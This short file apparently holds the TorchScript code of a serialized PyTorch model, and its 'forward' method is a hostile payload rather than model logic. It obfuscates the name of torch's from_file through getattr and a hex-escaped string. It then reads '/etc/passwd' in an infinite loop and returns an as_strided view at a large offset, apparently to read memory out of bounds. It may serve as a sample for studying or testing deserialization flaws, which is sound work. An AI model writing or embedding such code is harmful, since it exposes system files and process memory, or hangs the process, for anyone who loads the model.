op_version_set = 1
def forward(self, x):
  t = torch
  f = getattr(t.autograd, "from" "_\x66ile")
  while True:
    y = f('/etc/passwd', size=1)  # read
  return (y).as_strided([9], [1], 4096)
